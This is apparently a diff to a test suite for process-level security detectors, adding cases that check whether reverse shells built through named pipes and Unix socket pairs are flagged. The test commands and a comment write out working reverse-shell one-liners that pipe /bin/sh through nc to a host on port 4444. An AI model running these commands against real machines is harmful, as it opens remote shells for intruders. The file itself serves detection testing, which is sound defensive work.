@@ -50,7 +50,7 @@ describe("detectors of the process section", () => {
   onKernel("so is one that gets there through pipes", async () => {
     // As `nc host port </tmp/h | sh >/tmp/h` is: neither end of the shell is a connection itself.
     await sh(
-      `/bin/mkfifo /tmp/g /tmp/h; (/bin/nc ${HOST} 4444 </tmp/h >/tmp/g 2>/dev/null &) ; /bin/sh -c '/bin/sleep 1; true' >/tmp/h </tmp/g`,
+      `/bin/mkfifo /tmp/g /tmp/h; (/bin/nc ${HOST} 4444 </tmp/h >/tmp/g 2>/dev/null &) ; /bin/sh >/tmp/h </tmp/g & /bin/sleep 1; kill $!`,
     );
     await detected("reverse_shell", "through a pipe from process");
   });
@@ -58,6 +58,9 @@ describe("detectors of the process section", () => {
   onKernel(
     "and one on a pair of Unix sockets, of which another program with a connection has the other end",
     async () => {
+      // Any program runs commands so, and is no remote shell for that.
+      await web.exec(PROBE, "shell", "pair", HOST, "4444", "/bin/sh", "/bin/sleep 1; true");
+      expect(rig.audits.some((a) => a.message.includes("through a Unix socket"))).toBe(false);
       await web.exec(PROBE, "shell", "pair", HOST, "4444", "/bin/sh");
       await detected("reverse_shell", "through a Unix socket from process");
     },
